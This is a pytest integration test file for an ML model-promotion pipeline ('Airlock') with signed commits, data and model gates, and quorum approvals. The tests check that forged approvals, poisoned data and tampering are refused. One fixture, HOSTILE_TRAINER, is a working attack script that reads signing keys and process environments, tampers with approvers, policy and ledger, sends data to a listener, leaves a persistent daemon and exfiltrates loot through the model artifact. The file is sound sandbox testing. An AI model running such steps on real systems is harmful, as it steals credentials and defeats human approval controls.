"""The flow, for real: Prefect server, git, SSH keys, training, ART, approvals from separate processes.

One Prefect test server is started for the module; `airlock run` and `airlock approve` run as separate processes
against it, exactly as a deployment and its approvers would.
"""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
import time
from pathlib import Path

import numpy as np
import pytest

from airlock.gitutil import isolated_env
from airlock.ledger import Ledger
from flows import demo
from gates import approval
from tests.conftest import ROOT, assert_one_line_refusal, commit, run_cli

pytestmark = pytest.mark.slow


@pytest.fixture(scope="module")
def prefect_api():
    from prefect.settings import PREFECT_API_URL
    from prefect.testing.utilities import prefect_test_harness

    with prefect_test_harness(server_startup_timeout=120):
        yield PREFECT_API_URL.value()


@pytest.fixture
def work(tmp_path):
    """The demo's work directory, with cheaper model-gate settings (the gates' own tests use calibrated ones)."""
    paths = demo.build(tmp_path / "demo")
    text = paths["policy"].read_text()
    for old, new in (
        ("stand_in_models = 5", "stand_in_models = 1\nimages = 100\nsteps = 60"),
        ("ratio_no_production = 0.71", "ratio_no_production = 0.5"),
        (
            "[advisory]               # membership inference, extraction effort, spectral signatures: "
            "reported, never blocking\nenabled = true",
            "[advisory]\nenabled = false",
        ),
        (
            'model_signing_public_key = "trust/model_signing.pub"',
            'model_signing_public_key = "trust/model_signing.pub"\nrevoked_keys = "trust/revoked_keys"',
        ),
    ):
        assert old in text, old
        text = text.replace(old, new)
    paths["policy"].write_text(text)
    (paths["trust"] / "revoked_keys").write_text("")  # revocations take effect at decision time
    return paths


def set_policy(paths, section: str, key: str, value) -> None:
    p = paths["policy"]
    text = p.read_text()
    # Within the section: up to the next line that opens a table (a value may hold brackets: require = {...[...]}).
    text, n = re.subn(
        rf"(\[{re.escape(section)}\](?:(?!\n\[).)*?\n){key} = [^\n]*", rf"\g<1>{key} = {value}", text, flags=re.S
    )
    assert n == 1, (section, key)
    p.write_text(text)


def start_run(paths, api: str) -> subprocess.Popen:
    return subprocess.Popen(
        [sys.executable, "-m", "flows.cli", "run", "--config", str(paths["policy"])],
        cwd=ROOT,
        env={**os.environ, "PREFECT_API_URL": api},
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )


def run_to_end(paths, api: str, timeout: float = 300) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, "-m", "flows.cli", "run", "--config", str(paths["policy"])],
        cwd=ROOT,
        env={**os.environ, "PREFECT_API_URL": api},
        capture_output=True,
        text=True,
        timeout=timeout,
    )


def approve(paths, api: str, run_id: str, key: Path, *extra: str, yes: bool = True) -> subprocess.CompletedProcess:
    return subprocess.run(
        [
            sys.executable,
            "-m",
            "flows.cli",
            "approve",
            run_id,
            "--key",
            str(key),
            "--config",
            str(paths["policy"]),
            "--wait",
            "60",
            *(["--yes"] if yes else []),
            *extra,
        ],
        cwd=ROOT,
        env={**os.environ, "PREFECT_API_URL": api},
        capture_output=True,
        text=True,
        timeout=180,
    )


def run_logs(run_id: str) -> list[str]:
    import asyncio
    import uuid

    from prefect.client.orchestration import get_client
    from prefect.client.schemas.filters import LogFilter, LogFilterFlowRunId

    async def go() -> list[str]:
        async with get_client() as client:
            logs = await client.read_logs(
                log_filter=LogFilter(flow_run_id=LogFilterFlowRunId(any_=[uuid.UUID(run_id)])), limit=200
            )
            return [log.message for log in logs]

    return asyncio.run(go())


def approve_async(paths, api: str, run_id: str, key: Path) -> subprocess.Popen:
    cmd = [sys.executable, "-m", "flows.cli", "approve", run_id, "--key", str(key), "--config", str(paths["policy"])]
    return subprocess.Popen(
        [*cmd, "--wait", "120", "--yes"],
        cwd=ROOT,
        env={**os.environ, "PREFECT_API_URL": api},
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )


def send_junk(paths, api: str, run_id: str, n: int) -> None:
    """Write n unsigned, unparseable submissions straight to the Prefect API, each after the run paused again."""
    import asyncio

    from prefect.client.orchestration import get_client
    from prefect.flow_runs import resume_flow_run

    async def go() -> None:
        ledger = Ledger(paths["ledger"])
        async with get_client() as client:
            for i in range(n):
                deadline = time.monotonic() + 60
                while True:
                    done = sum(1 for e in ledger.entries() if e["kind"] == "approval.received")
                    fr = await client.read_flow_run(run_id)
                    if done == i and fr.state is not None and fr.state.is_paused():
                        break
                    assert time.monotonic() < deadline, "the run did not pause again after junk"
                    await asyncio.sleep(0.1)
                if i % 2:  # unparseable
                    junk = {"statement": f"junk {i} {{", "signature": "not a signature"}
                else:  # a well-formed statement for this run, unsigned
                    stmt = approval.make_statement(run_id, "sha256:" + "0" * 64, "alice@airlock.demo", "approve")
                    junk = {"statement": stmt, "signature": "-----BEGIN SSH SIGNATURE-----\nAAAA\n"}
                await resume_flow_run(run_id, run_input=junk)

    asyncio.run(go())


def wait_for_pause(paths, proc: subprocess.Popen, timeout: float = 240, after: str | None = None) -> str:
    """The run id of the first approval request (of a run other than `after`)."""
    ledger = Ledger(paths["ledger"])
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if ledger.path.exists():
            for e in ledger.entries():
                if e["kind"] == "approval.requested" and e["run_id"] != after:
                    return e["run_id"]
        if proc.poll() is not None:
            raise AssertionError(f"run ended before pausing: {proc.stdout.read()} {proc.stderr.read()}")
        time.sleep(0.5)
    raise AssertionError("run never paused for approval")


def kinds(paths) -> list[str]:
    return [e["kind"] for e in Ledger(paths["ledger"]).entries()]


def nothing_staged_or_promoted(paths) -> bool:
    return not (paths["registry"] / "staging").exists() and not (paths["registry"] / "production").exists()


def test_unsigned_commit_stops_the_run(work, prefect_api):
    (work["repo"] / "training" / "config.toml").write_text(
        (work["repo"] / "training" / "config.toml").read_text().replace("epochs = 30", "epochs = 31")
    )
    commit(work["repo"], "unsigned tweak", key=None)
    res = run_to_end(work, prefect_api)
    assert res.returncode == 1, res.stdout + res.stderr
    assert "commit gate refused" in res.stdout and "is not signed" in res.stdout
    assert "[commit.unsigned]" in res.stdout  # the stable code, beside the reason
    assert "Traceback" not in res.stdout + res.stderr
    assert nothing_staged_or_promoted(work)
    assert kinds(work)[-1] == "run.failed"


def test_poisoned_data_stops_the_run(work, prefect_api):
    y_path = work["workdir"] / "data" / "train" / "train_y.npy"
    y = np.load(y_path)
    y[:50] = 7
    np.save(y_path, y)
    res = run_to_end(work, prefect_api)
    assert res.returncode == 1, res.stdout + res.stderr
    assert "data:train gate refused" in res.stdout and "changed: train_y.npy" in res.stdout
    assert "[data.mismatch]" in res.stdout
    verdicts = [e["data"] for e in Ledger(work["ledger"]).entries() if e["kind"] == "gate.verdict"]
    assert verdicts[-1]["code"] == "data.mismatch" and verdicts[0]["code"] == "commit.pass"
    assert nothing_staged_or_promoted(work)


def test_golden_set_swapped_with_its_manifest_in_a_signed_commit_stops_the_run(work, prefect_api, tmp_path):
    """Swapped through the official path (ingested, manifest committed and signed): the policy's pin still refuses."""
    from airlock.ingest import ingest

    golden = work["workdir"] / "data" / "golden"
    swap = tmp_path / "swap"
    swap.mkdir()
    np.save(swap / "golden_y.npy", (np.load(golden / "golden_y.npy") + 1) % 10)  # every golden label wrong
    new = ingest(
        "golden",
        swap,
        data_dir=golden,
        manifest_path=work["repo"] / "manifests" / "golden.json",
        ledger=Ledger(work["ledger"]),
        source="s3://attacker/golden",
    ).root_digest
    commit(work["repo"], "refresh golden set", key=work["keys"] / "committer", email=demo.COMMITTER)
    res = run_to_end(work, prefect_api)
    assert res.returncode == 1, res.stdout + res.stderr
    assert "data:golden gate refused" in res.stdout and f"has root digest {new}, not the pinned" in res.stdout
    assert nothing_staged_or_promoted(work)


def test_model_below_threshold_is_never_signed(work, prefect_api):
    set_policy(work, "evaluation", "min_test_accuracy", "0.999")
    res = run_to_end(work, prefect_api)
    assert res.returncode == 1, res.stdout + res.stderr
    assert "evaluation gate refused" in res.stdout and "test accuracy" in res.stdout
    assert nothing_staged_or_promoted(work)
    assert "model.signed" not in kinds(work)


def test_bad_approvals_are_refused_while_the_run_waits_then_it_times_out(work, prefect_api, keys):
    set_policy(work, "approval", "timeout_seconds", "45")
    proc = start_run(work, prefect_api)
    try:
        run_id = wait_for_pause(work, proc)
        keydir = work["keys"]

        # Someone not in the approvers file, claiming to be a new approver.
        stranger = approve(work, prefect_api, run_id, keys.key("carol"), "--as", "carol@airlock.demo")
        assert stranger.returncode == 1, stranger.stdout + stranger.stderr
        assert "approval refused by the flow" in stranger.stderr and "does not verify" in stranger.stderr

        # Someone not in the approvers file, impersonating bob.
        forged = approve(work, prefect_api, run_id, keys.key("carol"), "--as", "bob@airlock.demo")
        assert forged.returncode == 1 and "does not verify for bob@airlock.demo" in forged.stderr

        # Without a terminal to confirm on, nothing is signed unless --yes says so.
        unconfirmed = approve(work, prefect_api, run_id, keydir / "alice", yes=False)
        assert_one_line_refusal(unconfirmed, 2, "no terminal to confirm on", "pass --yes")

        # A real approver: accepted.
        first = approve(work, prefect_api, run_id, keydir / "alice")
        assert "(nothing in production)" in first.stdout and "commits in the range" in first.stdout
        assert first.returncode == 0, first.stdout + first.stderr
        assert "accepted: alice@airlock.demo (ml-lead) approved" in first.stdout

        # `airlock pending`: the run, who approved in which role, and what the policy still needs.
        listed = run_cli("pending", "--config", str(work["policy"]), "--json")
        assert listed.returncode == 0, listed.stderr
        (row,) = json.loads(listed.stdout)["pending"]
        assert row["run_id"] == run_id and row["refused_submissions"] == 2
        assert row["approved_by"] == [{"approver": "alice@airlock.demo", "roles": ["ml-lead"]}]
        assert row["still_needed"] == ["1 more security approver", "1 more distinct approver in all"]
        assert 0 < row["expires_in_seconds"] <= 45
        plain = run_cli("pending", "--config", str(work["policy"]))
        assert "alice@airlock.demo (ml-lead)" in plain.stdout and "1 more security approver" in plain.stdout

        # The same approver again does not make a quorum.
        again = approve(work, prefect_api, run_id, keydir / "alice")
        assert again.returncode == 1 and "already approved" in again.stderr

        # Bob's key is revoked while the run waits: the run's copy of the trust roots predates it, the decision
        # reads the revocation list in force now.
        (work["trust"] / "revoked_keys").write_text((keydir / "bob.pub").read_text())
        revoked = approve(work, prefect_api, run_id, keydir / "bob")
        assert revoked.returncode == 1, revoked.stdout + revoked.stderr
        assert "bob@airlock.demo is revoked" in revoked.stderr and "in force now" in revoked.stderr

        out, err = proc.communicate(timeout=120)
    finally:
        if proc.poll() is None:
            proc.kill()
    assert proc.returncode == 1, out + err
    assert "still needed 1 more security approver" in out and "nothing was promoted" in out
    assert not (work["registry"] / "production").exists()
    k = kinds(work)
    assert k.count("approval.received") == 5 and "approval.timeout" in k and k[-1] == "run.failed"
    received = [e["data"]["verdict"] for e in Ledger(work["ledger"]).entries() if e["kind"] == "approval.received"]
    assert received == ["fail", "fail", "pass", "fail", "fail"]
    Ledger(work["ledger"]).verify()


def test_a_rejection_ends_the_run(work, prefect_api):
    """Run where the policy declares the pod to be the sandbox: recorded, signed and shown to the approver."""
    set_policy(work, "sandbox", "mode", '"environment"')
    proc = start_run(work, prefect_api)
    try:
        run_id = wait_for_pause(work, proc)
        res = approve(work, prefect_api, run_id, work["keys"] / "bob", "--reject", "--reason", "golden drift")
        assert res.returncode == 0, res.stdout + res.stderr  # the rejection itself was accepted
        out, err = proc.communicate(timeout=120)
    finally:
        if proc.poll() is None:
            proc.kill()
    assert proc.returncode == 1
    assert "bob@airlock.demo rejected the model: golden drift" in out
    assert not (work["registry"] / "production").exists()
    # The staged model is marked rejected in the registry, with the signed rejection: it can never be promoted.
    (mark,) = (work["registry"] / "staging" / "rejected").glob("*.json")
    assert json.loads(mark.read_text())["reason"] == "golden drift"
    assert "registry.reject" in kinds(work)
    assert "WARNING: team code ran without Airlock's sandbox" in res.stdout
    staged = next((work["registry"] / "staging").glob("[0-9a-f]*"))
    prov = json.loads((staged / "model" / "provenance.json").read_text())
    assert prov["sandbox"]["mode"] == "environment" and prov["sandbox"]["isolated"] is False
    bom = json.loads((staged / "model" / "aibom.cdx.json").read_text())
    props = {p["name"]: p["value"] for p in bom["metadata"]["component"]["properties"]}
    assert props["airlock:sandbox:mode"] == "environment" and props["airlock:sandbox:isolated"] == "false"


def test_the_run_refuses_when_the_sandbox_cannot_start(work, prefect_api):
    text = (
        work["policy"]
        .read_text()
        .replace('mode = "bubblewrap"', 'mode = "bubblewrap"\nbubblewrap = "/nonexistent/bwrap"')
    )
    work["policy"].write_text(text)
    res = run_to_end(work, prefect_api)
    assert res.returncode == 1, res.stdout + res.stderr
    assert (
        "bubblewrap (/nonexistent/bwrap) is not installed" in res.stdout and "apt-get install bubblewrap" in res.stdout
    )
    assert "Traceback" not in res.stdout + res.stderr
    assert nothing_staged_or_promoted(work)
    assert "commit" not in {
        e["data"].get("gate") for e in Ledger(work["ledger"]).entries() if e["kind"] == "gate.verdict"
    }
    assert kinds(work)[-1] == "run.failed"


def test_demo_end_to_end_with_approvals_from_separate_processes(tmp_path):
    """`airlock demo` on Prefect's embedded default: promoted, verified, and the evidence holds."""
    res = subprocess.run(
        [sys.executable, "-m", "flows.cli", "demo", "--workdir", str(tmp_path / "d"), "--json"],
        cwd=ROOT,
        capture_output=True,
        text=True,
        timeout=600,
        env={k: v for k, v in os.environ.items() if k != "PREFECT_API_URL"},
    )
    assert res.returncode == 0, res.stdout[-3000:] + res.stderr[-3000:]
    out = json.loads(res.stdout)
    assert out["promoted"] and out["verified"]
    assert out["approver_exit_codes"] == {"alice": 0, "bob": 0}
    assert set(out["verdicts"].values()) == {"pass", "advisory"}
    assert {
        "commit",
        "data:train",
        "data:golden",
        "artifact",
        "evaluation",
        "robustness",
        "backdoor",
        "golden_regression",
        "approval",
    } <= {g for g, v in out["verdicts"].items() if v == "pass"}
    assert {"membership_inference", "extraction_effort", "spectral_signatures"} <= set(out["verdicts"])
    cfg = out["paths"]["policy"]
    verify = subprocess.run(
        [sys.executable, "-m", "flows.cli", "verify", "--config", cfg], cwd=ROOT, capture_output=True, text=True
    )
    assert verify.returncode == 0 and out["model_digest"] in verify.stdout
    ledger = subprocess.run(
        [sys.executable, "-m", "flows.cli", "ledger", "verify", "--path", out["paths"]["ledger"]],
        cwd=ROOT,
        capture_output=True,
        text=True,
    )
    assert ledger.returncode == 0
    entries = list(Ledger(out["paths"]["ledger"]).entries())
    approvers = [e["data"]["evidence"]["approver"] for e in entries if e["kind"] == "approval.received"]
    assert approvers == ["alice@airlock.demo", "bob@airlock.demo"]
    assert [e["kind"] for e in entries][-2:] == ["registry.promote", "run.promoted"]


def test_after_a_promotion_every_commit_since_production_must_be_signed(work, prefect_api):
    """Promote once - after 25 junk submissions written straight to the Prefect API, which are refused and logged but
    do not use up the run's two attempts; then an unsigned commit slipped under a trusted signed HEAD is refused,
    named by the gate."""
    set_policy(work, "approval", "max_attempts", "2")
    proc = start_run(work, prefect_api)
    try:
        run_id = wait_for_pause(work, proc)
        send_junk(work, prefect_api, run_id, 25)
        # Two approvers at the same instant: each counted exactly once (the loser of the race resubmits at the
        # next pause instead of being dropped by Prefect's ABORT).
        both = [approve_async(work, prefect_api, run_id, work["keys"] / who) for who in ("alice", "bob")]
        for a in both:
            a_out, a_err = a.communicate(timeout=180)
            assert a.returncode == 0, a_out + a_err
            assert "accepted:" in a_out
        out, err = proc.communicate(timeout=120)
    finally:
        if proc.poll() is None:
            proc.kill()
    assert proc.returncode == 0, out + err

    # `airlock verify` judges production by the trust roots and the policy in force now, and names the cause.
    verify = ["verify", "--config", str(work["policy"])]
    (work["trust"] / "revoked_keys").write_text((work["keys"] / "alice.pub").read_text())
    assert_one_line_refusal(run_cli(*verify), 1, "do not meet the policy in force", "alice@airlock.demo is revoked")
    (work["trust"] / "revoked_keys").write_text("")
    set_policy(work, "approval", "quorum", "3")
    assert_one_line_refusal(run_cli(*verify), 1, "do not meet the policy in force", "1 more distinct approver in all")
    set_policy(work, "approval", "quorum", "2")
    received = [e["data"] for e in Ledger(work["ledger"]).entries() if e["kind"] == "approval.received"]
    assert len(received) == 27, [r["code"] for r in received]
    assert {r["code"] for r in received[:25]} == {"approval.malformed", "approval.bad_signature"}
    assert [r["verdict"] for r in received[25:]] == ["pass", "pass"]
    assert sorted(r["evidence"]["approver"] for r in received[25:]) == ["alice@airlock.demo", "bob@airlock.demo"]
    assert kinds(work).count("registry.promote") == 1
    # The run's progress and verdicts reached its log in Prefect (the UI's Logs tab), not only the terminal.
    logged = run_logs(run_id)
    assert any("PASS" in m and "commit" in m for m in logged), logged[:20]
    assert any("PROMOTED" in m for m in logged) and any("ACCEPTED" in m and "bob@airlock.demo" in m for m in logged)
    assert run_cli(*verify).returncode == 0

    production_commit = next(
        e for e in Ledger(work["ledger"]).entries() if e["kind"] == "gate.verdict" and e["data"]["gate"] == "commit"
    )["data"]["evidence"]["commit"]

    cfg = work["repo"] / "training" / "config.toml"
    cfg.write_text(cfg.read_text() + "# sneaky\n")
    sneaky = commit(work["repo"], "sneaky unsigned tweak", key=None)
    cfg.write_text(cfg.read_text() + "# reviewed\n")
    commit(work["repo"], "reviewed change", key=work["keys"] / "committer", email=demo.COMMITTER)
    res = run_to_end(work, prefect_api)
    assert res.returncode == 1, res.stdout + res.stderr
    assert f"commit {sneaky[:12]} (1 of 2 since base {production_commit[:12]}" in res.stdout
    assert "is not signed" in res.stdout

    # A clean, signed retrain on top of production: the model gates now compare against production, and the
    # backdoor gate reuses production's trigger sizes cached in its signed evidence.
    subprocess.run(
        ["git", "-C", str(work["repo"]), "reset", "-q", "--hard", production_commit], check=True, env=isolated_env()
    )
    cfg.write_text(cfg.read_text().replace("seed = 1234", "seed = 99"))
    commit(work["repo"], "retrain with another seed", key=work["keys"] / "committer", email=demo.COMMITTER)
    proc = start_run(work, prefect_api)
    try:
        res = approve(
            work,
            prefect_api,
            wait_for_pause(work, proc, after=run_id),
            work["keys"] / "alice",
            "--reject",
            "--reason",
            "test over",
        )
        assert res.returncode == 0, res.stdout + res.stderr
        # What the approver saw, from the signed provenance: each gate beside production's, the range's commit.
        header = [line for line in res.stdout.splitlines() if "this model" in line]
        assert header and header[0].rstrip().endswith("production"), res.stdout
        assert "retrain with another seed" in res.stdout
        assert "commits in the range (1 shown, newest first)" in res.stdout
        proc.communicate(timeout=120)
    finally:
        if proc.poll() is None:
            proc.kill()
    verdicts = {
        e["data"]["gate"]: e["data"]
        for e in Ledger(work["ledger"]).entries()
        if e["kind"] == "gate.verdict" and e["run_id"] != run_id
    }
    assert verdicts["backdoor"]["evidence"]["reference_kind"] == "production"
    assert verdicts["backdoor"]["verdict"] == "pass"
    assert "reference_robust_accuracy" in verdicts["robustness"]["metrics"]
    assert "p=" in verdicts["golden_regression"]["reason"]


HOSTILE_TRAINER = r'''
"""A signed commit's trainer that attacks everything it can name, then trains normally so the run goes on."""
import glob, json, os, socket, sys, time

W, PORT, TOKEN, AIRLOCK_INIT = {workdir!r}, {port!r}, {token!r}, {airlock_init!r}
OUT = sys.argv[sys.argv.index("--out") + 1]
loot = {{}}


def attempt(name, fn):
    try:
        loot[name] = fn()
    except Exception as e:  # noqa: BLE001
        loot[name] = "refused: " + type(e).__name__


def append(path, text):
    with open(path, "a") as f:
        f.write(text)
    return "WROTE"


def environ():
    found = []
    for p in glob.glob("/proc/*/environ"):
        try:
            found.append(open(p, "rb").read().decode(errors="replace"))
        except OSError:
            pass
    return found


def lower_quorum():
    text = open(W + "/airlock.toml").read().replace("quorum = 2", "quorum = 1")
    open(W + "/airlock.toml", "w").write(text)
    return "WROTE"


attempt("signing_key", lambda: open(W + "/keys/model_signing.key").read())
attempt("environ", environ)
attempt("approvers", lambda: append(W + "/trust/approvers", 'mallory@evil namespaces="airlock-approval" ssh-ed25519 AAAA\n'))
attempt("run_trust_copy", lambda: [append(p, "mallory\n") for p in glob.glob(W + "/runs/*/trust/approvers")] or "none found")
attempt("policy", lower_quorum)
attempt("registry", lambda: (os.makedirs(W + "/registry/production", exist_ok=True),
                             append(W + "/registry/production/CURRENT", "{{}}"))[1])
attempt("ledger", lambda: append(W + "/ledger.jsonl", json.dumps({{"seq": 999, "kind": "registry.promote"}}) + "\n"))
attempt("airlock_source", lambda: append(AIRLOCK_INIT, "\n# owned\n"))
attempt("outside_out", lambda: append(os.path.join(OUT, "..", "model", "extra.py"), "x"))
attempt("network", lambda: (socket.create_connection(("127.0.0.1", PORT), timeout=2).sendall(b"stolen"), "SENT")[1])
if os.fork() == 0:                      # a daemon that outlives the trainer and keeps writing into the model
    os.setsid()
    if os.fork() == 0:
        os.execvp(sys.executable, [sys.executable, "-c", "import sys, time\nwhile True:\n"
                  " open(sys.argv[1] + '/extra.bin', 'ab').write(b'x'); time.sleep(0.05)", OUT, TOKEN])
    os._exit(0)

from training.train import main as _real_main  # noqa: E402

rc = _real_main(sys.argv[1:])
meta = json.load(open(os.path.join(OUT, "training.json")))
meta["loot"] = loot                    # exfiltrate through the artifact, the one thing that leaves
json.dump(meta, open(os.path.join(OUT, "training.json"), "w"))
time.sleep(0.3)
sys.exit(rc)
'''


def test_a_hostile_trainer_changes_nothing_and_a_trust_copy_changed_under_the_run_fails_it(work, prefect_api):
    """The issue's attacker, as a signed commit: it reads nothing, writes nothing that matters, reaches no one,
    leaves nothing running; the run goes on to the approval pause. Then a trust copy changed while the run waits
    fails it at the next decision, naming the file."""
    import hashlib
    import socket
    import uuid

    import airlock

    token = f"airlock-daemon-{uuid.uuid4().hex}"
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(1)
    server.settimeout(0.2)
    wd = work["workdir"]
    (work["repo"] / "training" / "hostile.py").write_text(
        HOSTILE_TRAINER.format(
            workdir=str(wd), port=server.getsockname()[1], token=token, airlock_init=airlock.__file__
        )
    )
    set_policy(work, "training", "command", '["{python}", "-m", "training.hostile"]')
    commit(work["repo"], "faster training", key=work["keys"] / "committer", email=demo.COMMITTER)
    watched = [
        wd / "keys" / "model_signing.key",
        wd / "trust" / "approvers",
        wd / "airlock.toml",
        Path(airlock.__file__),
    ]
    before = {p: hashlib.sha256(p.read_bytes()).hexdigest() for p in watched}

    secrets = {"AIRLOCK_SIGNING_KEY": str(wd / "keys" / "model_signing.key"), "PREFECT_API_KEY": "pnu_flow_secret"}
    proc = subprocess.Popen(
        [sys.executable, "-m", "flows.cli", "run", "--config", str(work["policy"])],
        cwd=ROOT,
        env={**os.environ, "PREFECT_API_URL": prefect_api, **secrets},
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    try:
        run_id = wait_for_pause(work, proc)
        with pytest.raises(socket.timeout):
            server.accept()  # nothing reached the host's listener
        assert subprocess.run(["pgrep", "-f", token], capture_output=True).stdout == b""  # no survivor
        assert {p: hashlib.sha256(p.read_bytes()).hexdigest() for p in watched} == before
        assert not (work["registry"] / "production").exists()
        Ledger(work["ledger"]).verify()  # every entry Airlock's own, chain intact
        staged = next((work["registry"] / "staging").glob("[0-9a-f]*"))
        model = staged / "model"
        assert sorted(p.name for p in model.iterdir()) == [
            "aibom.cdx.json",
            "evidence",
            "model.safetensors",
            "provenance.json",
            "training.json",
        ]
        loot = json.loads((model / "training.json").read_text())["loot"]
        # What it read or sent: nothing. (What it "wrote" landed at most in the sandbox's own /tmp, which is
        # gone: the host files above are unchanged, no registry or ledger entry appeared.)
        for name in ("signing_key", "network"):
            assert str(loot[name]).startswith("refused"), (name, loot[name])
        assert loot["run_trust_copy"] == "none found"
        assert (
            not (staged.parent.parent / "model").exists() and not (wd / "runs" / run_id / "model" / "extra.py").exists()
        )
        dumped = json.dumps(loot)
        assert "PRIVATE KEY" not in dumped and "pnu_flow_secret" not in dumped and "AIRLOCK_SIGNING_KEY" not in dumped
        # The run's trust copies are what was read at the start (recorded in the commit gate's evidence).
        roots = next(
            e for e in Ledger(work["ledger"]).entries() if e["kind"] == "gate.verdict" and e["data"]["gate"] == "commit"
        )["data"]["evidence"]["trust_roots"]["sha256"]
        copy = wd / "runs" / run_id / "trust" / "approvers"
        assert hashlib.sha256(copy.read_bytes()).hexdigest() == roots["approvers"]

        first = approve(work, prefect_api, run_id, work["keys"] / "alice")
        assert first.returncode == 0, first.stdout + first.stderr
        with open(copy, "a") as f:  # written by anyone but the run itself
            f.write('mallory@evil namespaces="airlock-approval" ssh-ed25519 AAAA\n')
        second = approve(work, prefect_api, run_id, work["keys"] / "bob")
        assert second.returncode == 1 and "changed during the run" in second.stderr, second.stdout + second.stderr
        out, err = proc.communicate(timeout=120)
    finally:
        server.close()
        if proc.poll() is None:
            proc.kill()
    assert proc.returncode == 1, out + err
    assert "the run's copy of trust.approvers" in out and "changed during the run" in out
    assert not (work["registry"] / "production").exists()
    assert kinds(work)[-1] == "run.failed"
